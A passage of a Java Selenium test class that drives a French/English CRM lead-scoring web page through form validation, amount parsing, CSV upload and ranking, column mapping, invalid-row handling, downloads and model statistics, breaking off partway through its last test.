package com.smoft.crm;

import static org.assertj.core.api.Assertions.assertThat;

import com.smoft.crm.scoring.Customer;
import com.smoft.crm.scoring.LeadScore;
import com.smoft.crm.scoring.LeadScorer;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.NumberFormat;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.logging.Level;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.Dimension;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.StaleElementReferenceException;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.logging.LogEntry;
import org.openqa.selenium.logging.LogType;
import org.openqa.selenium.support.ui.ExpectedConditions;
import org.openqa.selenium.support.ui.Select;
import org.openqa.selenium.support.ui.WebDriverWait;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The web page, used as a person would, in Debian's headless Chromium. Screenshots go to
 * {@code target/screenshots}. Skipped, with a message, on a machine without chromium and chromedriver
 * ({@code apt-get install chromium chromium-driver}); {@code .ci/run} installs both.
 */
@InTheBrowser
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class WebPageTests {

    static final Path SCREENSHOTS = Path.of("target", "screenshots");
    /** A French CRM export: semicolons, decimal commas, Windows-1252, names and phones, an id above 2^53. */
    static final Path FRENCH_EXPORT = Path.of("src/test/resources/web/export-fr.csv");

    private static final Map<String, String> FRENCH_SEGMENTS = Map.of("Hot", "Chaud", "Warm", "Tiède", "Cold", "Froid");
    private static final Map<String, String> FRENCH_ACTIONS =
            Map.of("CALL", "Appeler", "EMAIL", "Envoyer un email", "NURTURE", "Relance automatique");
    /** A file with its own score, segment, probability, Priority, next_action and recommendation, and columns named like Object's. */
    static final Path OWN_SCORES = Path.of("src/test/resources/web/own-scores.csv");
    /** Formulas, HTML, script links, a bidi override in an id, cells of 5 000 characters. */
    static final Path HOSTILE_CELLS = Path.of("src/test/resources/web/hostile-cells.csv");
    /** French headers, two bad rows among five: a negative count, a formula and a word where counts go. */
    static final Path BAD_ROWS = Path.of("src/test/resources/web/customers-bad-rows.csv");
    /** What a download cell may start with when it is a plain number: a sign, digits, spaced thousands, a decimal point or comma. */
    private static final Pattern NUMBER = Pattern.compile("[+-]?(\\d+|\\d{1,3}([ \u00a0\u202f]\\d{3})+)([.,]\\d+)?");

    /** How often a wait looks again: a browser round trip takes a few milliseconds. */
    static final Duration POLLING = Duration.ofMillis(20);

    private final JsonMapper json = JsonMapper.builder().build();

    private static ChromeDriver browser;

    @LocalServerPort
    int port;

    @Autowired
    LeadScorer scorer;

    @BeforeAll
    static void useTheRunsBrowser(ChromeDriver shared) throws IOException {
        browser = shared;
        Files.createDirectories(SCREENSHOTS);
    }

    @BeforeEach
    void openPage() {
        browser.manage().window().setSize(new Dimension(1280, 900));
        browser.get("http://localhost:" + port + "/");
        // As a person waits to see the form: its labels come from the service, and the layout settles once they do.
        waiting()
                .until(driver -> !driver.findElement(By.cssSelector("label[for=total_spent]"))
                        .getText()
                        .isEmpty());
    }

    private WebDriverWait waiting() {
        // Polled every 20 ms rather than Selenium's 500: the page answers in milliseconds, and half-second naps between
        // tries were most of this class's time.
        WebDriverWait waiting = new WebDriverWait(browser, Duration.ofSeconds(20), POLLING);
        // The page redraws its lists: an element read while it is being replaced is read again on the next try.
        waiting.ignoring(StaleElementReferenceException.class);
        return waiting;
    }

    private WebElement byId(String id) {
        return browser.findElement(By.id(id));
    }

    private void type(String field, String value) {
        WebElement input = byId(field);
        input.clear();
        input.sendKeys(value);
    }

    private void screenshot(String name) throws IOException {
        Files.write(SCREENSHOTS.resolve(name + ".png"), browser.getScreenshotAs(OutputType.BYTES));
    }

    /** Console errors since the last call: Content-Security-Policy refusals, failed requests, script errors. */
    private List<String> consoleErrors() {
        return browser.manage().logs().get(LogType.BROWSER).getAll().stream()
                .filter(entry -> entry.getLevel().intValue() >= Level.SEVERE.intValue())
                .map(LogEntry::getMessage)
                .toList();
    }

    @Test
    void shouldRunThePageAndTheDocsUnderTheContentSecurityPolicyWithoutAConsoleError() throws IOException {
        consoleErrors();
        browser.get("http://localhost:" + port + "/");
        waiting().until(driver -> byId("score-button").isDisplayed());
        assertThat(consoleErrors()).as("page").isEmpty();

        browser.get("http://localhost:" + port + "/docs");
        waiting().until(ExpectedConditions.presenceOfElementLocated(By.cssSelector(".swagger-ui .opblock")));
        screenshot("docs-swagger-ui");
        assertThat(consoleErrors()).as("Swagger UI").isEmpty();

        browser.get("http://localhost:" + port + "/redoc");
        waiting().until(ExpectedConditions.presenceOfElementLocated(By.cssSelector("h1")));
        screenshot("docs-redoc");
        assertThat(consoleErrors()).as("ReDoc").isEmpty();
    }

    @Test
    void shouldScoreACustomerFromTheFormWithGaugeSegmentReasonsAndAction() throws IOException {
        type("days_since_last_contact", "2");
        type("total_contacts", "25");
        type("total_spent", "4000");
        type("emails_sent", "30");
        type("emails_opened", "27");
        type("website_visits", "60");
        type("customer_age_days", "700");
        byId("score-button").click();
        waiting().until(ExpectedConditions.visibilityOfElementLocated(By.id("result")));
        waiting()
                .until(driver -> !byId("reasons").findElements(By.tagName("li")).isEmpty());

        var expected = scorer.score(new Customer(1, 2, 25, 4000, 30, 27, 60, 700));
        assertThat(byId("score-value").getText()).isEqualTo(String.valueOf(expected.score()));
        assertThat(byId("segment").getText())
                .isEqualTo(FRENCH_SEGMENTS.get(expected.segment().label()));
        assertThat(byId("base-score").getText()).startsWith("Score moyen des clients : ");
        assertThat(byId("recommendation").getText()).isEqualTo(expected.recommendation());
        assertThat(byId("next-action").getText())
                .isEqualTo(expected.nextAction().text());
        assertThat(byId("reasons").findElements(By.tagName("li"))).hasSizeBetween(1, 6);
        assertThat(byId("next-step-title").getText()).isEqualTo("Pour le garder Chaud");
        assertThat(byId("next-step").getText())
                .isEqualTo(scorer.score(new Customer(1, 2, 25, 4000, 30, 27, 60, 700), Locale.FRENCH, false, true)
                        .whatIf()
                        .atRisk()
                        .text());
        ((JavascriptExecutor) browser).executeScript("arguments[0].scrollIntoView()", byId("segment"));
        screenshot("score-one-customer");

        // A Warm customer: what would make him Hot, in the service's words.
        type("days_since_last_contact", "10");
        type("total_contacts", "8");
        type("total_spent", "800");
        type("emails_sent", "10");
        type("emails_opened", "4");
        type("website_visits", "8");
        type("customer_age_days", "300");
        byId("score-button").click();
        waiting().until(driver -> byId("segment").getText().equals("Tiède"));
        assertThat(byId("next-step-title").getText()).isEqualTo("Pour le faire passer Chaud");
        assertThat(byId("next-step").getText())
                .isEqualTo(scorer.score(new Customer(1, 10, 8, 800, 10, 4, 8, 300), Locale.FRENCH, false, true)
                        .whatIf()
                        .nextStep()
                        .text())
                .startsWith("Envoyez-lui 3 emails qu'il ouvre : il passerait de ");
    }

    @Test
    void shouldBuildTheFormFromTheServicesContractAndTakeACrmTextId() throws IOException {
        waiting().until(driver -> !byId("total_spent").getAttribute("max").isEmpty());
        assertThat(browser.findElement(By.cssSelector("label[for=total_spent]")).getText())
                .isEqualTo("Montant dépensé (€)");
        assertThat(byId("emails_sent").getAttribute("min")).isEqualTo("0");
        type("customer_id", "CUST-007");
        byId("score-button").click();
        waiting().until(ExpectedConditions.visibilityOfElementLocated(By.id("result")));
        assertThat(byId("customer_id-error").getText()).isEmpty();
        byId("language").click();
        assertThat(browser.findElement(By.cssSelector("label[for=total_spent]")).getText())
                .isEqualTo("Amount spent (€)");
    }

    @Test
    void shouldCheckTheFormBeforeCallingTheService() throws IOException {
        type("emails_sent", "3");
        type("emails_opened", "5");
        type("total_contacts", "2.5");
        byId("score-button").click();
        // More opens than sends is fine (tracking counts repeated opens); a count with decimals is not.
        assertThat(byId("emails_opened-error").getText()).isEmpty();
        assertThat(byId("total_contacts-error").getText()).isEqualTo("Nombre entier ≥ 0 attendu");
        assertThat(byId("total_contacts").getAttribute("aria-invalid")).isEqualTo("true");
        assertThat(byId("result").isDisplayed()).isFalse();
        screenshot("form-errors");
    }

    @Test
    void shouldReadAnAmountWithADecimalCommaOrPointAndThousandsSpacesAndRefuseAnythingElse() throws IOException {
        recordRequests();
        // However a French user writes two thousand four hundred and fifty euros ninety, the service gets 2450.9: never
        // 245 090.
        var expected = scorer.score(new Customer(1, 5, 10, 2450.90, 8, 6, 15, 120));
        for (String amount : List.of("2450,90", "2 450,90", "2\u00a0450,90", "2\u202f450,90", "2450.90", "2 450.90")) {
            type("total_spent", amount);
            byId("score-button").click();
            waiting().until(driver -> scoreRequests().size() == 1);
            assertThat(json.readTree(scoreRequests().getFirst())
                            .get("total_spent")
                            .asDouble())
                    .as(amount)
                    .isEqualTo(2450.90);
            assertThat(byId("total_spent-error").getText()).isEmpty();
            waiting()
                    .until(driver -> byId("result").isDisplayed()
                            && byId("score-value").getText().equals(String.valueOf(expected.score())));
            recordRequests();
        }

        // What cannot be read for sure is refused on the field, and the score shown for the previous amount goes away.
        for (String amount : List.of("2.450,90", "2.450", "12abc", "2,450.90", "1,2,3", "2 45,90", "-5", "")) {
            type("total_spent", amount);
            byId("score-button").click();
            waiting().until(driver -> !byId("total_spent-error").getText().isEmpty());
            assertThat(byId("total_spent-error").getText())
                    .as(amount)
                    .isEqualTo(
                            amount.isEmpty()
                                    ? "Champ obligatoire"
                                    : amount.startsWith("-")
                                            ? "Nombre ≥ 0 attendu"
                                            : "Montant illisible : écrivez par exemple 2 450,90");
            assertThat(byId("total_spent").getAttribute("aria-invalid")).isEqualTo("true");
            assertThat(byId("result").isDisplayed())
                    .as("a score beside a refused amount")
                    .isFalse();
        }
        // Counts stay whole numbers, whichever separator.
        type("total_contacts", "2,5");
        byId("score-button").click();
        waiting().until(driver -> byId("total_contacts-error").getText().equals("Nombre entier ≥ 0 attendu"));
        assertThat(scoreRequests()).isEmpty();
        screenshot("form-amount-refused");

        // In English, a comma separates thousands and the point is the decimal one; the messages follow the language.
        type("total_spent", "2450,90");
        byId("language").click();
        waiting()
                .until(driver ->
                        byId("total_spent-error").getText().equals("Unreadable amount: write for example 2,450.90"));
        assertThat(byId("total_contacts-error").getText()).isEqualTo("A whole number ≥ 0");
        assertThat(byId("form-error").getText()).isEqualTo("Please fix the fields marked.");
        type("total_contacts", "10");
        type("total_spent", "2,450.90");
        byId("score-button").click();
        waiting().until(driver -> scoreRequests().size() == 1);
        assertThat(json.readTree(scoreRequests().getFirst()).get("total_spent").asDouble())
                .isEqualTo(2450.90);
        waiting().until(driver -> byId("result").isDisplayed());
    }

    @Test
    void shouldTellInFrenchWhyTheServiceRefusedACustomerAndClearTheScoreShown() throws IOException {
        byId("score-button").click();
        waiting().until(ExpectedConditions.visibilityOfElementLocated(By.id("result")));
        // Pasted from a CRM with a right-to-left override in it: the service refuses the id, in English.
        ((JavascriptExecutor) browser).executeScript("arguments[0].value = 'CUST-\u202e1'", byId("customer_id"));
        byId("score-button").click();
        waiting().until(driver -> !byId("customer_id-error").getText().isEmpty());
        assertThat(byId("customer_id-error").getText())
                .isEqualTo("Doit être un nombre entier ≥ 0 ou un texte de 1 à 64 caractères imprimables");
        assertThat(byId("form-error").getText()).isEqualTo("Corrigez les champs signalés.");
        assertThat(byId("result").isDisplayed()).isFalse();
        byId("language").click();
        waiting()
                .until(driver -> byId("customer_id-error")
                        .getText()
                        .equals("Must be a whole number >= 0 or a text of 1 to 64 printable characters"));
    }

    @Test
    void shouldRankAnUploadedCsvHotFirstWithFilterAndSearch() throws IOException {
        byId("base").isDisplayed();
        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        byId("csv-file")
                .sendKeys(Path.of("src/test/resources/web/customers.csv")
                        .toAbsolutePath()
                        .toString());
        byId("batch-button").click();
        waiting()
                .until(driver -> byId("call-list")
                                .findElements(By.cssSelector("tbody tr"))
                                .size()
                        == 5);

        List<WebElement> rows = byId("call-list").findElements(By.cssSelector("tbody tr"));
        List<Integer> scores = rows.stream()
                .map(row -> Integer.parseInt(
                        row.findElements(By.tagName("td")).get(2).getText()))
                .toList();
        assertThat(scores).isSortedAccordingTo((a, b) -> b - a);
        assertThat(rows.getFirst().findElements(By.tagName("td")).get(1).getText())
                .isEqualTo("101");
        assertThat(byId("counts").getText()).contains("Chaud :", "Tiède :", "Froid :");
        screenshot("score-my-base");

        new Select(byId("segment-filter")).selectByValue("Cold");
        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr")))
                .allSatisfy(row -> assertThat(
                                row.findElements(By.tagName("td")).get(3).getText())
                        .isEqualTo("Froid"));
        new Select(byId("segment-filter")).selectByValue("");
        type("row-search", "104");
        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr"))).hasSize(1);
    }

    @Test
    void shouldNameTheBadRowOfACsvInWords() throws IOException {
        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        byId("csv-file")
                .sendKeys(Path.of("src/test/resources/web/customers-bad-row.csv")
                        .toAbsolutePath()
                        .toString());
        byId("batch-button").click();
        waiting().until(driver -> !byId("batch-error").getText().isBlank());
        assertThat(byId("batch-error").getText())
                .contains(
                        "rien n'a été noté",
                        "Ligne 4 - Emails envoyés : doit être supérieur ou égal à 0 (valeur « -12 »)");
        screenshot("bad-row");
    }

    @Test
    void shouldSkipInvalidRowsWhenAskedCountThemAndListThemForDownload() throws Exception {
        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        byId("csv-file").sendKeys(BAD_ROWS.toAbsolutePath().toString());
        // Without the box ticked, two bad rows refuse the file, and the page says what the box is for.
        byId("batch-button").click();
        waiting().until(driver -> !byId("batch-error").getText().isBlank());
        assertThat(byId("batch-error").getText()).contains("rien n'a été noté", "« Ignorer les lignes invalides »");
        long scoredBefore = customersScored();

        assertThat(browser.findElement(By.cssSelector("label[for=skip-invalid]"))
                        .getText())
                .isEqualTo("Ignorer les lignes invalides");
        byId("skip-invalid").click();
        byId("batch-button").click();
        waiting()
                .until(driver -> byId("call-list")
                                .findElements(By.cssSelector("tbody tr"))
                                .size()
                        == 3);
        assertThat(byId("batch-error").getText()).isEmpty();
        assertThat(byId("call-list").findElements(By.cssSelector("tbody td[data-column=customer_id]")).stream()
                        .map(WebElement::getText))
                .containsExactlyInAnyOrder("201", "202", "205");
        waiting()
                .until(driver -> byId("rejected-list")
                                .findElements(By.cssSelector("tbody tr"))
                                .size()
                        == 3);
        assertThat(byId("rejected-count").getText())
                .isEqualTo("2 lignes ignorées car invalides : elles n'ont pas été notées.");
        assertThat(byId("rejected-list").findElements(By.cssSelector("thead th")).stream()
                        .map(WebElement::getText))
                .containsExactly("Ligne", "Colonne", "Valeur", "Raison");
        assertThat(byId("rejected-list").findElements(By.cssSelector("tbody tr")).stream()
                        .map(row -> row.findElements(By.tagName("td")).stream()
                                .map(WebElement::getText)
                                .toList()))
                .containsExactly(
                        List.of("4", "Emails envoyés", "-12", "doit être supérieur ou égal à 0"),
                        List.of("5", "Nb contacts", "=1+1", "doit être un nombre entier supérieur ou égal à 0"),
                        List.of("5", "Visites site", "abc", "doit être un nombre entier supérieur ou égal à 0"));
        // The three valid customers were scored once: the list of bad rows did not cost a second scoring.
        assertThat(customersScored() - scoredBefore).isEqualTo(3);
        ((JavascriptExecutor) browser).executeScript("arguments[0].scrollIntoView()", byId("rejected"));
        screenshot("skipped-rows");

        // The list as a spreadsheet, its values made inert as in the call list's download.
        assertThat(download("download-rejected").substring(1).lines().toList())
                .containsExactly(
                        "Ligne;Colonne;Valeur;Raison",
                        "4;Emails envoyés;-12;doit être supérieur ou égal à 0",
                        "5;Nb contacts;'=1+1;doit être un nombre entier supérieur ou égal à 0",
                        "5;Visites site;abc;doit être un nombre entier supérieur ou égal à 0");

        byId("language").click();
        waiting()
                .until(driver ->
                        byId("rejected-count").getText().equals("2 rows skipped as invalid: they were not scored."));
        waiting().until(driver -> byId("rejected-list").getText().contains("must be a whole number >= 0"));
        assertThat(download("download-rejected").lines().toList())
                .containsExactly(
                        "\uFEFFLine,Column,Value,Reason",
                        "4,Emails envoyés,-12,must be greater than or equal to 0",
                        "5,Nb contacts,'=1+1,must be a whole number >= 0",
                        "5,Visites site,abc,must be a whole number >= 0");

        // Pasted JSON: the service's answer lists the customers it left out itself, by their place in the list.
        ((JavascriptExecutor) browser).executeScript("arguments[0].value = ''", byId("csv-file"));
        type(
                "json-text",
                "[{\"customer_id\": 1, \"days_since_last_contact\": 5, \"total_contacts\": 10, \"total_spent\": 1500.5,"
                        + " \"emails_sent\": 8, \"emails_opened\": 6, \"website_visits\": 15, \"customer_age_days\": 120},"
                        + " {\"customer_id\": 2, \"days_since_last_contact\": 5, \"total_contacts\": 10, \"total_spent\": 1500.5,"
                        + " \"emails_sent\": -8, \"emails_opened\": 6, \"website_visits\": 15, \"customer_age_days\": 120}]");
        byId("batch-button").click();
        waiting()
                .until(driver ->
                        byId("rejected-count").getText().equals("1 row skipped as invalid: it was not scored."));
        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr"))).hasSize(1);
        assertThat(byId("rejected-list").findElements(By.cssSelector("tbody td")).stream()
                        .map(WebElement::getText))
                .containsExactly("Customer #2", "Emails sent", "", "must be greater than or equal to 0");
    }

    @Test
    void shouldSayInThePagesLanguageWhatTheServiceRefusedWithTheTechnicalDetailFolded() throws Exception {
        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        // Pasted JSON the browser cannot read: its own (English) words are folded away.
        type("json-text", "{oops");
        byId("batch-button").click();
        waiting().until(driver -> !byId("batch-error").getText().isBlank());
        assertThat(byId("batch-error").getText())
                .isEqualTo("Le JSON collé n'est pas lisible : vérifiez qu'il est complet.\ndétail technique");
        // A refusal the page has no code for: the service's own words, which come in the page's language.
        type("json-text", "{\"clients\": \"x\"}");
        byId("batch-button").click();
        waiting().until(driver -> byId("batch-error").getText().startsWith("Champ clients"));
        assertThat(byId("batch-error").getText()).isEqualTo("Champ clients : une liste JSON de clients est attendue.");
        type("json-text", "");

        // A column no field's name matches, and none chosen for it: named by its label, with what to do about it.
        Path missing = Files.writeString(
                Path.of("target", "missing-column.csv"),
                "N° client;Jours depuis le dernier contact;Nb contacts;"
                        + "Montant dépensé (€);Mails expédiés;Emails ouverts;Visites site;Ancienneté (jours)\r\n201;2;25;4 000;30;27;60;700\r\n");
        byId("csv-file").sendKeys(missing.toAbsolutePath().toString());
        waiting().until(driver -> byId("mapping").isDisplayed());
        byId("batch-button").click();
        waiting().until(driver -> byId("batch-error").getText().contains("Emails envoyés"));
        assertThat(byId("batch-error").getText())
                .isEqualTo("Il manque la colonne « Emails envoyés » : choisissez ci-dessus laquelle "
                        + "de vos colonnes la contient, ou renommez-la « Emails envoyés ».");
        screenshot("missing-column");
        byId("language").click();
        waiting().until(driver -> byId("batch-error").getText().contains("Emails sent"));
        assertThat(byId("batch-error").getText())
                .isEqualTo("The column “Emails sent” is missing: choose above which of your columns "
                        + "holds it, or rename it “Emails sent”.");

        // Where the page could not ask (the service's answer on columns lost), the service's own refusal, in the page's
        // language.
        ((JavascriptExecutor) browser)
                .executeScript(
                        "const send = window.fetch; window.fetch = (url, options) =>"
                                + " String(url).startsWith('/api/contract/columns') ? Promise.reject(new TypeError('lost')) : send(url, options);");
        byId("csv-file").sendKeys(missing.toAbsolutePath().toString());
        byId("batch-button").click();
        waiting().until(driver -> byId("batch-error").getText().startsWith("The file was refused"));
        assertThat(byId("batch-error").getText())
                .isEqualTo(
                        "The file was refused, nothing was scored:\n"
                                + "The column “Emails sent” is missing: if your file has it under another name, rename it “Emails sent”.");
        byId("language").click();
        waiting().until(driver -> byId("batch-error").getText().contains("Emails envoyés"));
        assertThat(byId("batch-error").getText())
                .isEqualTo(
                        "La base a été refusée, rien n'a été noté :\n"
                                + "Il manque la colonne « Emails envoyés » : si votre fichier l'a sous un autre nom, renommez-la « Emails envoyés ».");
    }

    @Test
    void shouldAskWhichColumnHoldsAFieldTheServiceDoesNotFindAndOfferTheChoiceAgainForTheNextFile() throws Exception {
        consoleErrors();
        ((JavascriptExecutor) browser).executeScript("localStorage.removeItem('smoft-column-mapping')");
        // A French export in Windows-1252 whose only accents before its last row, 64 KB down, are in the odd column's
        // name;
        // a quoted name holds the separator.
        String header =
                "\"Ref; client\";Prenom;Nom;Dernier échange (j);Nb contacts;Montant depense;Emails envoyes;Emails ouverts;"
                        + "Visites site;Anciennete (jours)";
        StringBuilder lines = new StringBuilder(header);
        for (int row = 1; row <= 250; row++) {
            lines.append("\r\nC-")
                    .append(row)
                    .append(";Jean;Martin ")
                    .append("x".repeat(250))
                    .append(";")
                    .append(row % 200)
                    .append(";5;1 200,50;20;10;5;400");
        }
        lines.append("\r\nC-9999;Hélène;Crémieux;2;25;4 000,90;30;27;60;700\r\n");
        Charset windows1252 = Charset.forName("windows-1252");
        Path first = Files.writeString(Path.of("target", "dernier-echange.csv"), lines, windows1252);
        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        byId("csv-file").sendKeys(first.toAbsolutePath().toString());

        // The page asks, before anything is sent, among the columns no field took.
        waiting().until(driver -> byId("mapping").isDisplayed());
        assertThat(byId("mapping-intro").getText())
                .isEqualTo("Le service ne trouve pas toutes ses colonnes dans « dernier-echange.csv » : "
                        + "choisissez laquelle de vos colonnes contient chacune.");
        assertThat(byId("mapping-fields").findElements(By.tagName("label")).stream()
                        .map(WebElement::getText))
                .containsExactly("Jours depuis le dernier contact");
        var days = new Select(byId("map-days_since_last_contact"));
        assertThat(days.getOptions().stream().map(WebElement::getText))
                .containsExactly("— choisir une colonne —", "Prenom", "Nom", "Dernier échange (j)");
        assertThat(byId("mapping-note").isDisplayed()).isFalse();
        screenshot("mapping-step");
        days.selectByVisibleText("Dernier échange (j)");
        byId("batch-button").click();
        waiting()
                .until(driver -> byId("call-list")
                                .findElements(By.cssSelector("tbody tr"))
                                .size()
                        == 251);
        assertThat(byId("batch-error").getText()).isEmpty();

        // Scored on the column chosen, the rest of the file read in its own charset; the list and downloads keep its
        // names.
        type("row-search", "crémieux");
        waiting()
                .until(driver -> byId("call-list")
                                .findElements(By.cssSelector("tbody tr"))
                                .size()
                        == 1);
        WebElement helene = byId("call-list").findElement(By.cssSelector("tbody tr"));
        assertThat(cell(helene, "name").getText()).isEqualTo("Hélène Crémieux");
        assertThat(cell(helene, "score").getText())
                .isEqualTo(String.valueOf(scorer.score(new Customer(1, 2, 25, 4000.90, 30, 27, 60, 700))
                        .score()));
        assertThat(download("download-all").substring(1).lines().findFirst().orElseThrow())
                .startsWith(header + ";score;")
                .doesNotContain("days_since_last_contact");

        // The next file with the same columns: the choice is made again, said, and can be changed; here in English.
        Path next = Files.writeString(
                Path.of("target", "dernier-echange-suite.csv"),
                header + "\r\nD-1;Gérard;Lévy;300;1;0;40;0;0;900\r\nD-2;Anaïs;Noël;1;30;5 000;40;38;80;800\r\n",
                windows1252);
        browser.get("http://localhost:" + port + "/");
        waiting()
                .until(driver -> !driver.findElement(By.cssSelector("label[for=total_spent]"))
                        .getText()
                        .isEmpty());
        byId("language").click();
        browser.findElement(By.cssSelector("[data-tab=base]")).click();
        byId("csv-file").sendKeys(next.toAbsolutePath().toString());
        waiting().until(driver -> byId("mapping-note").isDisplayed());
        assertThat(byId("mapping-note").getText())
                .isEqualTo("Chosen as for your previous file: Days since last contact = “Dernier échange (j)”. "
                        + "You can change this choice.");
        assertThat(byId("mapping-intro").getText())
                .isEqualTo("The service does not find all its columns in “dernier-echange-suite.csv”: "
                        + "choose which of your columns holds each.");
        assertThat(new Select(byId("map-days_since_last_contact"))
                        .getFirstSelectedOption()
                        .getText())
                .isEqualTo("Dernier échange (j)");
        List<WebElement> rows = rank(next, 2);
        assertThat(rows.stream().map(row -> cell(row, "name").getText())).containsExactly("Anaïs Noël", "Gérard Lévy");
        assertThat(cell(rows.getLast(), "score").getText())
                .isEqualTo(String.valueOf(
                        scorer.score(new Customer(1, 300, 1, 0, 40, 0, 0, 900)).score()));
        byId("language").click();
        waiting()
                .until(driver -> byId("mapping-note")
                        .getText()
                        .startsWith("Choisi comme pour votre fichier précédent : "
                                + "Jours depuis le dernier contact = « Dernier échange (j) »."));
        // Changed by hand, it is no longer said to come from the previous file.
        new Select(byId("map-days_since_last_contact")).selectByVisibleText("Nom");
        assertThat(byId("mapping-note").isDisplayed()).isFalse();
        assertThat(consoleErrors()).isEmpty();
    }

    @Test
    void shouldDownloadTheListShownOrTheWholeFile() throws Exception {
        score(FRENCH_EXPORT, 5);
        assertThat(byId("download").getText()).isEqualTo("Télécharger la liste affichée");
        assertThat(byId("download-all").getText()).isEqualTo("Télécharger tout le fichier");
        new Select(byId("segment-filter")).selectByValue("Hot");
        int hot = byId("call-list").findElements(By.cssSelector("tbody tr")).size();
        assertThat(hot).isBetween(1, 4);
        List<String> shown = download("download").substring(1).lines().toList();
        assertThat(shown).hasSize(1 + hot);
        assertThat(shown.subList(1, shown.size()))
                .allSatisfy(line -> assertThat(line).contains(";Chaud;"));
        assertThat(download("download-all").substring(1).lines().toList()).hasSize(6);
        type("row-search", "crémerie");
        assertThat(download("download").substring(1).lines().toList()).hasSize(2);
        byId("language").click();
        waiting().until(driver -> byId("download").getText().equals("Download the list shown"));
        assertThat(byId("download-all").getText()).isEqualTo("Download the whole file");
    }

    @Test
    void shouldNameACustomerByFirstAndLastNameWhenTheFileHasBoth() throws Exception {
        String fields =
                "customer_id;days_since_last_contact;total_contacts;total_spent;emails_sent;emails_opened;website_visits;customer_age_days";
        Path french = Files.writeString(
                Path.of("target", "prenom-nom.csv"),
                "Prénom;Nom;" + fields + "\r\nÉlise;Crémieux;301;2;25;4000;30;27;60;700\r\n");
        assertThat(cell(rank(french, 1).getFirst(), "name").getText()).isEqualTo("Élise Crémieux");
        Path english = Files.writeString(
                Path.of("target", "first-last.csv"),
                ("First name;Last name;" + fields
                                + "\r\nJohn;Smith;302;2;25;4000;30;27;60;700\r\nMary;Jones;303;300;1;0;40;0;0;900\r\n")
                        .replace(';', ','));
        assertThat(rank(english, 2).stream().map(row -> cell(row, "name").getText()))
                .containsExactly("John Smith", "Mary Jones");
        type("row-search", "john smith");
        assertThat(byId("call-list").findElements(By.cssSelector("tbody tr"))).hasSize(1);
    }

    @Test
    void shouldSwitchToEnglishAndAskTheServiceAgain() throws IOException {
        byId("score-button").click();
        waiting().until(driver -> byId("recommendation").getText().contains("Priorité"));
        byId("language").click();
        assertThat(browser.findElement(By.cssSelector("label[for=total_contacts]"))
                        .getText())
                .isEqualTo("Number of contacts");
        assertThat(browser.findElement(By.tagName("html")).getAttribute("lang")).isEqualTo("en");
        waiting().until(driver -> byId("recommendation").getText().contains("priority"));
        assertThat(byId("next-action").getText()).doesNotContain("Appeler", "Envoyer", "Inscrire");
        screenshot("english");
    }

    @Test
    void shouldDrawTheModelForPeopleWhoDoNotReadJson() throws Exception {
        // What happened to some scored customers: the live points beside the holdout's, and the promise in words.
        LocalService service = new LocalService(port);
        StringBuilder clients = new StringBuilder();
        StringBuilder outcomes = new StringBuilder("client;résultat\n");
        for (int i = 0; i < 40; i++) {
            String id = "PAGE-LIVE-" + i + "-" + System.nanoTime();
            clients.append(i == 0 ? "" : ",")
                    .append("{\"customer_id\": \"%s\", \"days_since_last_contact\": %d, \"total_contacts\": 20,"
                            .formatted(id, 1 + 7 * i))
                    .append(" \"total_spent\": 5000, \"emails_sent\": 10, \"emails_opened\": 8, \"website_visits\": 30,"
                            + " \"customer_age_days\": 400}");
            outcomes.append(id).append(i < 10 ? ";signé\n" : ";perdu\n");
        }
        service.postJson("/api/batch_score", "{\"clients\": [" + clients + "]}");
        assertThat(service.post("/api/outcomes", "text/csv", outcomes.toString())
                        .statusCode())
                .isEqualTo(200);
        browser.findElement(By.cssSelector("[data-tab=model]")).click();
        waiting()
                .until(driver ->
                        byId("importance").findElements(By.className("bar-row")).size() == 7);
        assertThat(byId("distribution").findElements(By.tagName("div"))).hasSize(10);
        assertThat(byId("metrics").findElements(By.tagName("tr"))).hasSize(7);
        assertThat(byId("metrics").getText()).contains("AUC", "Chances de classer un client qui signe");
        assertThat(byId("importance").getText())
                .contains("Taux d'ouverture des emails")
                .doesNotContain("email_open_rate");

        // In words first: when, on what, and what a score of 80 means, from the API's own numbers.
        JsonNode model = json.readTree(get("/api/stats")).get("model");
        String summary = byId("model-summary").getText().replace('\u202f', ' ').replace('\u00a0', ' ');
        NumberFormat french = NumberFormat.getIntegerInstance(Locale.FRANCE);
        assertThat(summary)
                .contains(("sur " + french.format(model.get("training_rows").asInt()) + " clients, dont "
                                + french.format(model.get("training_converted").asInt()) + " ont signé")
                        .replace('\u202f', ' ')
                        .replace('\u00a0', ' '))
                .containsPattern("Sur 100 clients notés autour de \\d+, environ \\d+ ont signé");
        JsonNode band80 = null;
        for (JsonNode band : model.get("reliability")) {
            if (band.get("from").asInt() == 80) {
                band80 = band;
            }
        }
        assertThat(summary)
                .contains("environ " + Math.round(band80.get("observed_rate").asDouble()) + " ont signé");
        // The shipped model was trained on sample data: said in words, not as the card's "sample data (seed 42, 20000
        // customers)".
        assertThat(model.get("data_source").asString()).startsWith("sample data (seed ");
        assertThat(summary)
                .contains("(données d'exemple inventées pour la démonstration, tirage n° "
                        + model.get("data_source").asString().replaceAll("\\D*(\\d+).*", "$1") + ").")
                .doesNotContain("sample data", "seed");

